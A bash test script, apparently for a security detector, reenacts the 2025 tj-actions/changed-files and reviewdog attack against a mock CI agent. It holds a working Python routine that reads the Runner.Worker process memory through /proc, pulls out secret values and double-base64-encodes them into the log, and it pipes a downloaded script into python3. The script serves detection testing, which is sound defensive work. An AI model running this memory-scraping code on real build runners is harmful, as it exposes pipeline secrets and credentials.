#!/bin/bash
# Models tj-actions/changed-files and reviewdog (2025-03): the pipeline agent's memory is read, its secrets go to the log.
# must: credential-access/pipeline-agent-reached-into | credential-access/process-memory-read
# must: execution/download-piped-to-interpreter | execution/dependency-runs-download
# gate: fail

python3 /mnt/pipeline_agent.py & worker=$!
sleep 0.3
cat > /mnt/served/memdump.py <<'PY'
import base64, os, re, sys
pid = next(pid for pid in os.listdir("/proc") if pid.isdigit()
           and open(f"/proc/{pid}/comm").read().strip() == "Runner.Worker")
found = b""
with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
    for line in maps:
        match = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
        if not match or "[v" in line:
            continue
        start, end = (int(part, 16) for part in match.groups())
        memory.seek(start)
        try:
            found += b"".join(re.findall(rb"isSecret:[a-z-]+", memory.read(end - start)))
        except OSError:
            pass
print(base64.b64encode(base64.b64encode(found[:100])).decode())
PY
curl -s http://127.0.0.1:8000/memdump.py | python3
kill $worker
